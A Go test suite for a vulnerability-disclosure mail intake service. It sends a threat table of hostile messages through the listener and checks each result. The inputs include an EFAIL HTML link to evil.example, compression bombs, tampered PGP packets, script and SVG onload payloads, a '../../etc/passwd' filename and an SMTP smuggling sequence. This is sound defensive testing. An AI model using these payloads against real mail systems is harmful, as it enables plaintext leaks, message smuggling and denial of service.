package intake

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net/textproto"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"postern/internal/disclosure"
	"postern/internal/e2e/world"
	"postern/internal/pgp"
)

// Packets as no program writes them.

func pkt(tag int, b []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0xc0 | byte(tag), 255}, uint32(len(b))), b...)
}

func words(s string) []byte { return pkt(11, append([]byte{'b', 0, 0, 0, 0, 0}, s...)) }

func deflated(t testing.TB, inner []byte) []byte {
	t.Helper()
	b := bytes.NewBuffer([]byte{1})
	w, err := flate.NewWriter(b, flate.BestCompression)
	must(t, err)
	_, err = w.Write(inner)
	must(t, err)
	must(t, w.Close())
	return pkt(8, b.Bytes())
}

var session = bytes.Repeat([]byte{7}, 32)

func pkesk(t testing.TB, c *pgp.Certificate, hidden bool) []byte {
	t.Helper()
	ring, err := openpgp.ReadKeyRing(bytes.NewReader(c.Binary()))
	must(t, err)
	k, ok := ring[0].EncryptionKey(time.Now(), nil)
	if !ok {
		t.Fatal("no key to encrypt to")
	}
	var b bytes.Buffer
	must(t, packet.SerializeEncryptedKeyAEADwithHiddenOption(&b, k.PublicKey, packet.CipherAES256, false, session, hidden, nil))
	return b.Bytes()
}

func seipd(t testing.TB, inner []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := packet.SerializeSymmetricallyEncrypted(&b, packet.CipherAES256, false, packet.CipherSuite{}, session, nil)
	must(t, err)
	_, err = w.Write(inner)
	must(t, err)
	must(t, w.Close())
	return b.Bytes()
}

func skesk(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	must(t, packet.SerializeSymmetricKeyEncryptedReuseKey(&b, session, []byte("pass"), &packet.Config{DefaultCipher: packet.CipherAES256}))
	return b.Bytes()
}

func joined(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

// outcome is what a case has to look like. Empty fields are not looked at.
type outcome struct {
	encryption disclosure.Encryption
	signature  disclosure.Signature
	part       bool   // the protection holds for a part only
	text       string // in the message
	not        string // nowhere in the message
	attention  string // in the case's; "-": none
	file       string // a file with this label
}

const secret = "Tokens can be guessed."

// TestHostileIntake sends each entry of the threat table (threats.md §3) that
// is about one message through the listener, and looks at the case it became.
// The packages pgp and mail hold the finer variants; entries 37 and 45 have
// their large forms in mail, 50, 54 and 56 to 57 tests of their own.
func TestHostileIntake(t *testing.T) {
	w := newTeam(t, world.Config{})
	now := w.DB.Now()
	c := w.Cert
	finn := "Finn <finn@finder.example>"
	alice, stranger := person(t, now, "Alice", "alice@finder.example"), person(t, now, "Somebody", "else@example.org")
	private, err := stranger.Export([]byte("a passphrase of no use"))
	must(t, err)
	armored := func(b []byte) []byte { return armor(t, "PGP MESSAGE", b) }
	sealed := func(inner []byte) []byte { return joined(pkesk(t, c, false), seipd(t, inner)) }
	inline := func(b []byte) []byte { return plain(finn, "...", string(armored(b))) }
	ok := w.encrypt([]byte(secret+"\n"), nil)
	bin := sealed(words(secret))
	long := sealed(words(strings.Repeat(secret+" ", 300)))
	tampered := bytes.Clone(long)
	tampered[len(tampered)-2000] ^= 0x40
	nested, bomb, deep := words(secret), deflated(t, deflated(t, deflated(t, words(strings.Repeat("\x00", 80<<20))))), words(secret)
	for range 200 {
		nested = deflated(t, nested)
	}
	for range 5 {
		deep = sealed(deep)
	}
	mimeText := crlf(part("text/plain; charset=utf-8", secret+"\n"))
	mixed := func(parts ...string) []byte { return multipart(finn, "...", "multipart/mixed", parts...) }
	attachment := func(name, content string) string {
		return "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"" + name + "\"\n\n" + content
	}
	clear, err := pgp.ClearSign([]byte(secret+"\n"), alice, now)
	must(t, err)
	signedFuture, err := pgp.Prepare([]byte(secret), alice, now.AddDate(0, 0, 2))
	must(t, err)
	var future bytes.Buffer
	must(t, signedFuture.Encrypt(&future, []*pgp.Certificate{c}, now))
	aliceKey := string(alice.Certificate().Armored())
	withKey := func(key string, more ...string) []byte {
		return mixed(append([]string{part("text/plain", secret), part("application/pgp-keys", key)}, more...)...)
	}
	clearText := outcome{encryption: disclosure.OnArrival, signature: disclosure.Unsigned, text: secret}
	opened := outcome{encryption: disclosure.ToCurrentKey, signature: disclosure.Unsigned, text: secret, attention: "-"}
	kept := outcome{encryption: disclosure.Unopened, not: secret, attention: " "}
	attended := func(o outcome, why string) outcome { o.attention = why; return o }
	partly := func(o outcome) outcome { o.part = true; return o }
	signed := func(o outcome, s disclosure.Signature) outcome { o.signature = s; return o }
	filed := func(o outcome, f string) outcome { o.file = f; return o }

	tests := []struct {
		n    int
		name string
		raw  []byte
		want outcome
	}{
		{1, "plain text", plain(finn, "hello", secret+"\n"), attended(clearText, "-")},
		{3, "to a member's own key", inline(joined(pkesk(t, alice.Certificate(), false), seipd(t, words(secret)))), attended(kept, "do not hold")},
		{4, "to an unknown key", pgpMIME(finn, "...", w.encrypt([]byte(secret), nil, stranger.Certificate())), attended(kept, "do not hold")},
		{5, "passphrase only", inline(joined(skesk(t), seipd(t, words(secret)))), attended(kept, "passphrase")},
		{6, "passphrase, too", inline(joined(skesk(t), bin)), opened},
		{7, "hidden recipients", inline(joined(pkesk(t, stranger.Certificate(), true), pkesk(t, c, true), seipd(t, words(secret)))), opened},
		{8, "3000 key packets", inline(joined(bytes.Repeat(pkesk(t, stranger.Certificate(), true), 3000), bin)), kept},
		{9, "no integrity", inline(joined(pkesk(t, c, false), pkt(9, make([]byte, 200)))), attended(kept, "integrity")},
		{10, "tampered", inline(tampered), attended(kept, "damaged")},
		{11, "truncated", inline(long[:len(long)-100]), attended(kept, "damaged")},
		{12, "garbage after", inline(append(bytes.Clone(bin), "garbage"...)), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{13, "bomb", inline(sealed(bomb)), attended(kept, "large")},
		{14, "200 layers of compression", inline(sealed(nested)), attended(kept, "complicated")},
		{15, "two literals", inline(sealed(joined(words(secret), words(secret)))), kept},
		{16, "literal in armor", inline(words(secret)), clearText},
		{17, "signature without issuer", inline(sealed(joined(pkt(2, []byte{4, 0, 1, 8, 0, 6, 5, 2, 0x60, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1}), words(secret)))), signed(opened, disclosure.SignedUnchecked)},
		{18, "unknown AEAD", inline(joined(pkesk(t, c, false), pkt(18, append([]byte{2, 9, 77, 6}, make([]byte, 96)...)))), attended(kept, "cannot read")},
		{19, "signed by an unknown key", inline2(t, w, finn, alice), signed(opened, disclosure.SignedUnchecked)},
		{19, "signed by a key that came along", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", part("text/plain", secret), part("application/pgp-keys", aliceKey))), alice)), signed(opened, disclosure.SignedUnknown)},
		{21, "key of one, From of another", pgpMIME("Victim <victim@example.org>", "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", part("text/plain", secret), part("application/pgp-keys", aliceKey))), alice)), signed(opened, disclosure.SignedUnknown)},
		{22, "two From", append([]byte("From: \"team@lantern.example\" <x@evil.example>\r\n"), plain(finn, "x", secret)...), clearText},
		{22, "empty From", plain("", "x", secret), clearText},
		{23, "one part encrypted", mixed(part("text/plain", "unprotected words"), part("text/plain", string(ok))), partly(outcome{text: secret})},
		{24, "EFAIL", mixed(part("text/html", "<img src=\"http://evil.example/"), part("text/plain", string(ok)), part("text/html", "\">")), partly(outcome{text: secret, not: "<img"})},
		{26, "text around a signed one", plain(finn, "...", "before\n"+string(clear)+"after\n"), partly(outcome{text: secret})},
		{27, "forged Hash header", plain(finn, "...", strings.Replace(string(clear), "Hash: SHA512", "Hash: SHA256", 1)), outcome{encryption: disclosure.OnArrival}},
		{28, "inline in text", plain(finn, "...", "see below\n\n"+string(ok)+"\nbye\n"), partly(outcome{encryption: disclosure.ToCurrentKey, text: secret})},
		{29, "inline twice in alternatives", multipart(finn, "...", "multipart/alternative", part("text/plain", string(ok)), part("text/html", "<pre>"+string(ok)+"</pre>")), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{30, "encrypted files beside", mixed(part("text/plain", string(ok)), attachment("poc.py.asc", string(ok))), filed(opened, "poc.py")},
		{31, "mangled by Exchange", mixed(part("text/plain", "\n"), part("application/pgp-encrypted", "Version: 1\n"), part("application/octet-stream", string(w.encrypt(mimeText, nil)))), opened},
		{32, "one part", multipart(finn, "...", "multipart/encrypted", part("application/octet-stream", string(ok))), opened},
		{32, "no armor", multipart(finn, "...", "multipart/encrypted", part("application/pgp-encrypted", "Version: 1\n"), part("text/plain", "nothing")), outcome{attention: " "}},
		{33, "armor instead of MIME", pgpMIME(finn, "...", w.encrypt(ok, nil)), opened},
		{34, "encrypted twice", inline(sealed(bin)), opened},
		{34, "encrypted six times", inline(sealed(deep)), kept},
		{35, "phony subject inside", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", "Content-Type: text/plain; protected-headers=\"v1\"\nSubject: phony\n\n"+secret)), nil)), outcome{encryption: disclosure.ToCurrentKey, text: secret, not: "phony"}},
		{36, "another From inside", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\nFrom: ceo@example.org\nSubject: real\n\n"+secret), nil)), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{37, "quoted armor", plain(finn, "...", "> "+strings.ReplaceAll(strings.TrimSpace(string(ok)), "\n", "\n> ")+"\n"), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{37, "no checksum, indented", plain(finn, "...", "  "+strings.ReplaceAll(strings.TrimSpace(string(ok)), "\n", "\n  ")+"\n"), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{38, "words of armor", plain(finn, "x", "how do I send\n-----BEGIN PGP MESSAGE-----\nto you? "+secret+"\n"), clearText},
		{39, "a public key", plain(finn, "my key", aliceKey), outcome{encryption: disclosure.OnArrival, file: "key.asc"}},
		{40, "a private key", plain(finn, "help", string(private)), outcome{not: "PRIVATE KEY", attention: "private key"}},
		{41, "a key with many user ids", withKey(string(armor(t, "PGP PUBLIC KEY BLOCK", manyUsers(t, alice)))), outcome{encryption: disclosure.OnArrival, text: secret}},
		{42, "a user id of control signs", withKey(string(armor(t, "PGP PUBLIC KEY BLOCK", append(alice.Certificate().Binary(), pkt(13, []byte("Eve\u202e\n<b>"+strings.Repeat("x", 200<<10)))...)))), outcome{encryption: disclosure.OnArrival, text: secret, not: "<b>"}},
		{44, "charset that lies", crlf(head(finn, "x") + "Content-Type: text/plain; charset=utf-7\n\n" + secret + " a\xffb\x00c"), clearText},
		{45, "base64 that is none", crlf(head(finn, "x") + "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!!"), outcome{encryption: disclosure.OnArrival}},
		{45, "no boundary", crlf(head(finn, "x") + "Content-Type: multipart/mixed\n\n" + secret), attended(clearText, "parts")},
		{45, "deep nesting", crlf(head(finn, "x") + deepMIME(1000)), outcome{attention: "deeper"}},
		{45, "many parts", crlf(head(finn, "x") + "Content-Type: multipart/mixed; boundary=b\n\n" + strings.Repeat("--b\n\nx\n", 100_000)), outcome{attention: "more parts"}},
		{46, "enclosed message", mixed(part("message/rfc822", "From: b@x.example\nSubject: fwd\n\n"+secret)), clearText},
		{46, "S/MIME", crlf(head(finn, "x") + "Content-Type: application/pkcs7-mime; name=smime.p7m\n\nMIAG"), outcome{attention: "S/MIME", file: "smime.p7m"}},
		{46, "winmail.dat", mixed(part("text/plain", secret), part(`application/ms-tnef; name="winmail.dat"`, "x")), outcome{text: secret, attention: "winmail.dat"}},
		{47, "path as a name", mixed(part("text/plain", secret), attachment("../../etc/passwd", "x")), filed(clearText, "passwd")},
		{47, "device as a name", mixed(part("text/plain", secret), attachment("CON", "x")), filed(clearText, "_CON")},
		{48, "script in SVG and HTML", mixed(part("text/html", "<script>steal()</script><p>"+secret+"</p>"), "Content-Type: image/svg+xml\nContent-Disposition: attachment; filename=a.svg\n\n<svg onload=steal()>"), filed(outcome{text: secret, not: "steal"}, "a.svg")},
		{49, "absence note", plain(finn, "Out of office", secret, "Auto-Submitted: auto-replied\n"), clearText},
		{49, "stray DSN", dsn("mailer-daemon@elsewhere.example", address, "<unknown@elsewhere.example>"), outcome{encryption: disclosure.OnArrival}},
		{51, "forged thread", plain(finn, "Re: x", secret, "In-Reply-To: <m1@finder.example>\nReferences: <m1@finder.example>\n"), clearText},
		{55, "signed in two days", plain(finn, "...", future.String()), outcome{encryption: disclosure.ToCurrentKey, text: secret, signature: disclosure.SignedUnchecked}},
		{58, "quotes an embargoed notice", plain(finn, "Fwd: pre-notification", secret+"\n\n> TLP:AMBER notice to distributors\n"), clearText},
	}
	seen := map[int]bool{}
	for _, tt := range tests {
		seen[tt.n] = true
		t.Run(fmt.Sprintf("%02d %s", tt.n, tt.name), func(t *testing.T) {
			began := time.Now()
			must(t, w.try("finn@finder.example", address, tt.raw))
			f := w.newest()
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("taking and opening it took %s", took)
			}
			tt.want.check(t, w, f)
			if got := w.original(f.arrival); !bytes.Equal(bytes.TrimSuffix(got, []byte("\r\n")), bytes.TrimSuffix(tt.raw, []byte("\r\n"))) {
				t.Errorf("the original has %d bytes, %d were sent", len(got), len(tt.raw))
			}
		})
	}
	t.Logf("%d variants of %d entries", len(tests), len(seen))
}

func (o outcome) check(t *testing.T, w *team, f found) {
	t.Helper()
	if f.c == nil || len(f.thread) != 1 {
		t.Fatalf("it made case %q with %d messages (opened: %v); want a case of its own", f.id, len(f.thread), f.opened)
	}
	m := f.message(t)
	p := m.Protection
	if o.encryption != "" && p.Encryption != o.encryption || o.signature != "" && p.Signature != o.signature || p.Signature == disclosure.SignedKnown {
		t.Errorf("protection is %+v, want %s, %s, and never a known signer", p, o.encryption, o.signature)
	}
	if o.part && p.Integrity != disclosure.PartOnly {
		t.Errorf("protection is %+v, want a part only", p)
	}
	if !strings.Contains(m.Text, o.text) {
		t.Errorf("text is %.300q, want %q in it", m.Text, o.text)
	}
	if o.not != "" && (strings.Contains(m.Text, o.not) || strings.Contains(f.c.Title, o.not)) {
		t.Errorf("%q is shown: %.300q, title %q", o.not, m.Text, f.c.Title)
	}
	if o.attention == "-" && f.c.Attention != "" || o.attention != "-" && !strings.Contains(f.c.Attention, o.attention) {
		t.Errorf("attention is %q, want %q", f.c.Attention, o.attention)
	}
	has := o.file == ""
	var labels []string
	for _, x := range f.c.Files {
		labels = append(labels, x.Label)
		has = has || x.Label == o.file
	}
	if !has {
		t.Errorf("files are %q, want %q among them", labels, o.file)
	}
}

// inline2 is inline PGP signed by a key nobody has.
func inline2(t *testing.T, w *team, from string, signer *pgp.Secret) []byte {
	t.Helper()
	return plain(from, "...", string(w.encrypt([]byte(secret+"\n"), signer)))
}

func armor(t testing.TB, kind string, b []byte) []byte {
	t.Helper()
	var out strings.Builder
	out.WriteString("-----BEGIN " + kind + "-----\n\n")
	out.WriteString(wrapped(b))
	out.WriteString("-----END " + kind + "-----\n")
	return []byte(out.String())
}

func deepMIME(n int) string {
	var b strings.Builder
	for i := range n {
		s := strconv.Itoa(i)
		b.WriteString("Content-Type: multipart/mixed; boundary=b" + s + "\n\n--b" + s + "\n")
	}
	return b.String() + "Content-Type: text/plain\n\nx\n"
}

// manyUsers is a certificate followed by 2,000 user ids nobody signed.
func manyUsers(t testing.TB, s *pgp.Secret) []byte {
	t.Helper()
	b := s.Certificate().Binary()
	for i := range 2000 {
		b = append(b, pkt(13, fmt.Appendf(nil, "user %d %s", i, strings.Repeat("x", 100)))...)
	}
	return b
}

// TestHostile50Smuggling: lone CR and LF end the attempt, nothing is stored,
// and what hides behind is no second mail.
func TestHostile50Smuggling(t *testing.T) {
	w := newTeam(t, world.Config{})
	for _, end := range []string{"\n.\r\n", "\n.\n", "\r.\r\n"} {
		c, err := textproto.Dial("tcp", w.at)
		must(t, err)
		for _, x := range []struct {
			line string
			want int
		}{{"", 220}, {"EHLO evil.example", 250}, {"MAIL FROM:<a@evil.example>", 250}, {"RCPT TO:<" + address + ">", 250}, {"DATA", 354}} {
			if x.line != "" {
				must(t, c.PrintfLine("%s", x.line))
			}
			if _, _, err := c.ReadResponse(x.want); err != nil {
				t.Fatal(err)
			}
		}
		_, err = io.WriteString(c.W, "Subject: one\r\n\r\none"+end+"MAIL FROM:<b@evil.example>\r\nRCPT TO:<"+address+">\r\nDATA\r\nSubject: two\r\n\r\ntwo\r\n.\r\n")
		must(t, err)
		must(t, c.W.Flush())
		if _, said, err := c.ReadResponse(550); err != nil {
			t.Errorf("%q: %v %s, want 550", end, err, said)
		}
		c.Close()
	}
	if n := w.arrivals(); n != 0 {
		t.Errorf("%d mails were stored, want none", n)
	}
}

// TestHostile52SameMailTwice: whoever did not hear that a mail was taken sends
// the very same again. Both are kept, in one case, whose history says so; the
// same words in another mail are another case.
func TestHostile52SameMailTwice(t *testing.T) {
	w := newTeam(t, world.Config{})
	file := multipart("finn@finder.example", "Tokens", "multipart/mixed", part("text/plain", secret), "Content-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nproof\n")
	for _, raw := range [][]byte{plain("finn@finder.example", "Tokens", secret), file} {
		first := w.post("finn@finder.example", raw)
		files := len(first.c.Files)
		second, third := w.post("finn@finder.example", raw), w.post("finn@finder.example", raw)
		if first.id == "" || second.id != first.id || third.id != first.id || second.arrival == first.arrival {
			t.Fatalf("the same mail three times is in cases %q, %q and %q; want one", first.id, second.id, third.id)
		}
		if len(third.thread) != len(first.thread) || len(third.c.Reporters) != 1 || len(third.c.Files) != files {
			t.Errorf("the case has %d messages, %d reporters and %d files; want no more than after the first mail", len(third.thread), len(third.c.Reporters), len(third.c.Files))
		}
		if got := w.original(third.arrival); !bytes.Equal(bytes.TrimRight(got, "\r\n"), bytes.TrimRight(raw, "\r\n")) {
			t.Errorf("the third copy is kept as %q", got)
		}
		events, err := w.DB.Timeline(t.Context(), w.Member("Ada"), first.id)
		must(t, err)
		said := 0
		for _, e := range events {
			if strings.Contains(e.Text, "came again") {
				said++
			}
		}
		if said != 2 {
			t.Errorf("the history says %d times that it came again, want 2: %+v", said, events)
		}
	}
	// Other bytes under the same Message-ID are another report.
	raw := plain("finn@finder.example", "Tokens", secret)
	first := w.post("finn@finder.example", raw)
	if other := w.post("mallory@elsewhere.example", bytes.Replace(raw, []byte(secret), []byte("Something else"), 1)); other.id == first.id || other.c == nil {
		t.Errorf("other words under the same Message-ID are in case %q, want one of their own", other.id)
	}
}

// TestHostile56Locked: what comes while the vault is locked is taken, and
// opened in order afterwards.
func TestHostile56Locked(t *testing.T) {
	w := newTeam(t, world.Config{})
	w.DB.Vault().Lock()
	for i := range 5 {
		must(t, w.try("finn@finder.example", address, plain("finn@finder.example", fmt.Sprintf("number %d", i+1), secret)))
	}
	w.Settle()
	if n := w.cases(); n != 0 {
		t.Fatalf("%d cases while locked", n)
	}
	if _, err := w.DB.Vault().Unlock(world.Passphrase); err != nil {
		t.Fatal(err)
	}
	w.Settle()
	for i := range 5 {
		c, err := w.DB.CaseByNumber(t.Context(), w.Member("Ada"), i+1)
		if err != nil || c.Title != fmt.Sprintf("number %d", i+1) {
			t.Errorf("case #%d is %v, %v; want the mails in order", i+1, c, err)
		}
	}
}

// wrapped is base64 in lines of 64, without a checksum, which is optional
// (RFC 9580 §6.1).
func wrapped(b []byte) string {
	text := base64.StdEncoding.EncodeToString(b)
	var out strings.Builder
	for len(text) > 64 {
		out.WriteString(text[:64] + "\n")
		text = text[64:]
	}
	return out.String() + text + "\n"
}
